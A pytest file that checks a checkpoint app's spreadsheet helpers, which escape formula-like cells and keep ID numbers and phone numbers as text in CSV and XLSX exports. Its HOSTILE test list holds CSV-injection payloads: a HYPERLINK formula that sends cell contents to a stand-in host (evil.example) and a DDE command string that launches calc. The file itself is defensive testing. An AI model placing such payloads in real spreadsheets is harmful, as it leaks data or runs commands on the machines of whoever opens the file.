"""core/cells.py: spreadsheet cells never run as formulas and keep ID numbers and phones as
text, in CSV (read back with csv) and XLSX (read back with openpyxl); and each CSV writer of
the station (the rejected rows of a residents or watchlist import) uses it."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from resident_lists import HEADER, unique_id_number, write_csv
from watch_lists import HEADER as WATCH_HEADER

from checkpoint_app.core.cells import append_xlsx_row, csv_cell, csv_row, is_formula_like, is_number_like, xlsx_cell
from checkpoint_app.core.resident_import import read_residents, write_rejected
from checkpoint_app.core.watch_import import read_watchlist

TODAY = date(2020, 2, 2)
ID_X = "11010519491231002X"  # valid, ends in X
ID_DIGITS = unique_id_number(7)  # valid, 18 digits
LEADING_ZEROS = "0012345678"

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("=", "'="),
    (ID_DIGITS, "\t" + ID_DIGITS),        # 18 digits: Excel would show 5.00101E+17 and keep 15 digits
    (ID_X, ID_X),                         # text already
    ("13912345678", "13912345678"),       # 11 digits: a number Excel shows whole
    ("008613912345678", "\t008613912345678"),
    (LEADING_ZEROS, "\t" + LEADING_ZEROS),
    ("0", "0"),
    ("123456789012", "\t123456789012"),   # 12 digits: shown as 1.23457E+11
    ("12345678901", "12345678901"),
    ("１２３４５６７８９０１２３", "１２３４５６７８９０１２３"),  # full-width digits: text to Excel
    ("张三", "张三"),
    ("a=b", "a=b"),
    (" =1", " =1"),  # a space first: Excel shows it as text
    ("", ""),
    (None, ""),
    (7, "7"),
    (-3, "'-3"),  # a negative figure as text is still a cell that starts with "-"
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


@pytest.mark.parametrize("value, expected", [
    ("13912345678", "\t13912345678"), ("123", "\t123"), ("张三", "张三"), ("+86139", "'+86139"), ("", ""),
])
def test_csv_cell_of_a_text_column(value, expected):
    """A column the caller knows holds phones or ID numbers: every digit string is text."""
    assert csv_cell(value, text=True) == expected


def test_csv_row_and_its_text_columns():
    assert csv_row(["=1", "13912345678", 5, None], text_columns=[1]) == ["'=1", "\t13912345678", "5", ""]


@pytest.mark.parametrize("text, formula, number", [
    ("=1", True, False), ("+1", True, False), ("-1", True, False), ("@a", True, False), ("\t1", True, False),
    ("\r1", True, False), ("1", False, False), ("01", False, True), ("123456789012", False, True),
    ("12345678901", False, False), ("1234567890１2", False, False), ("", False, False),
])
def test_what_counts_as_formula_or_number(text, formula, number):
    assert (is_formula_like(text), is_number_like(text)) == (formula, number)


def _written_csv(rows: list[list[object]]) -> list[list[str]]:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(csv_row(row) for row in rows)
    return list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))


def test_hostile_csv_cells_read_back_as_text():
    table = _written_csv([HOSTILE, [ID_X, ID_DIGITS, LEADING_ZEROS]])
    assert all(cell.startswith("'") for cell in table[0])
    assert [cell[1:] for cell in table[0]] == HOSTILE  # nothing lost but the apostrophe in front
    assert table[1] == [ID_X, "\t" + ID_DIGITS, "\t" + LEADING_ZEROS]


def test_hostile_xlsx_cells_read_back_as_text(tmp_path):
    book = Workbook()
    sheet = book.active
    assert append_xlsx_row(sheet, ["姓名", "身份证号", "手机", "人数"]) == 1
    assert append_xlsx_row(sheet, HOSTILE) == 2
    assert append_xlsx_row(sheet, [ID_X, ID_DIGITS, LEADING_ZEROS, 12, None, 3.5], text_columns=[]) == 3
    xlsx_cell(sheet, 4, 1, "13912345678", text=True)
    xlsx_cell(sheet, 4, 2, "张三")
    path = tmp_path / "cells.xlsx"
    book.save(path)

    sheet = load_workbook(path).active
    rows = list(sheet.iter_rows(min_row=2))
    for cell, value in zip(rows[0], HOSTILE, strict=True):
        # (XML turns the CR into a line feed: still text, still not a formula)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True), cell.coordinate
    assert [(c.value, c.data_type, c.quotePrefix) for c in rows[1][:4]] == [
        (ID_X, "s", False), (ID_DIGITS, "s", True), (LEADING_ZEROS, "s", True), (12, "n", False)]
    assert rows[1][5].value == 3.5 and rows[1][4].value is None
    assert [(c.value, c.data_type, c.quotePrefix) for c in rows[2][:2]] == [
        ("13912345678", "s", True), ("张三", "s", False)]


def test_openpyxl_alone_would_make_a_formula(tmp_path):
    """Why xlsx_cell exists: a plain assignment of "=..." is a formula cell in openpyxl."""
    book = Workbook()
    book.active["A1"] = "=1+1"
    assert book.active["A1"].data_type == "f"


# ---- the writers: rejected rows of the residents and watchlist imports -----------------------

def _rejected_table(preview, tmp_path) -> list[list[str]]:
    out = tmp_path / "rejected.csv"
    write_rejected(preview, out)
    return list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))


def test_residents_rejected_rows_are_safe_cells(tmp_path):
    rows = [HEADER] + [
        [value, "1-1-101", "12345", "", "", ""] for value in HOSTILE  # each rejected: the phone
    ] + [
        ["", "1-1-102", "13912345678", ID_X, "", ""],           # rejected: no name
        ["", "1-1-103", LEADING_ZEROS, ID_DIGITS, "", ""],      # rejected: no name, bad phone
    ]
    preview = read_residents(write_csv(tmp_path / "list.csv", rows), TODAY)
    table = _rejected_table(preview, tmp_path)
    names = [row[1] for row in table[1:1 + len(HOSTILE)]]
    assert len(names) == len(HOSTILE) and all(name.startswith("'") for name in names), names
    assert names[0] == "'" + HOSTILE[0] and names[-1] == "'" + HOSTILE[-1]
    x_row, digits_row = table[-2], table[-1]
    assert x_row[4] == ID_X
    assert digits_row[3] == "\t" + LEADING_ZEROS and digits_row[4] == "\t" + ID_DIGITS
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in table for cell in row)


def test_a_rejected_row_fixed_and_imported_again_keeps_its_id_number(tmp_path):
    """The tab that keeps an ID number as text in Excel is stripped on import."""
    rows = [HEADER, ["张三", "1-1-101", "\t13912345678", "\t" + ID_DIGITS, "", ""]]
    preview = read_residents(write_csv(tmp_path / "fixed.csv", rows), TODAY)
    assert not preview.rejected
    assert (preview.valid[0].resident.id_number, preview.valid[0].resident.phone) == (ID_DIGITS, "13912345678")


def test_watchlist_rejected_rows_are_safe_cells(tmp_path):
    rows = [WATCH_HEADER] + [[value, ID_DIGITS, "", "", "", "", "x"] for value in HOSTILE] + [
        ["", LEADING_ZEROS, "", "", "", "", ""]]
    preview = read_watchlist(write_csv(tmp_path / "watch.csv", rows), TODAY)
    table = _rejected_table(preview, tmp_path)
    assert len(table) > 1, "nothing rejected: the test proves nothing"
    for row in table[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t=", "\r"))
        assert row[2] in ("\t" + ID_DIGITS, "\t" + LEADING_ZEROS)


@pytest.mark.parametrize(("text", "expected"), [
    ("张三", "张三"), ("a\tb\nc\rd", "a\tb\nc\rd"),  # what a cell holds is left alone
    ("\x00x", "\ufffdx"), ("站\x1f点", "站\ufffd点"), ("\x0b\x0c", "\ufffd\ufffd"), ("\x7f\u200b", "\x7f\u200b"),
])
def test_xlsx_text_replaces_what_an_xlsx_cannot_hold(text, expected):
    from checkpoint_app.core.cells import xlsx_text

    assert xlsx_text(text) == expected


def test_a_cell_with_a_control_character_does_not_fail_the_file(tmp_path):
    """A hostile enrollment's station name, a pasted list: openpyxl refuses a whole file
    for one such character; the cell shows U+FFFD instead."""
    import openpyxl

    from checkpoint_app.core.cells import append_xlsx_row

    book = openpyxl.Workbook()
    append_xlsx_row(book.active, ["区\x1f防控办", "=1+1\x00"])
    book.save(tmp_path / "x.xlsx")
    cells = [c.value for c in openpyxl.load_workbook(tmp_path / "x.xlsx").active[1]]
    assert cells == ["区\ufffd防控办", "=1+1\ufffd"]
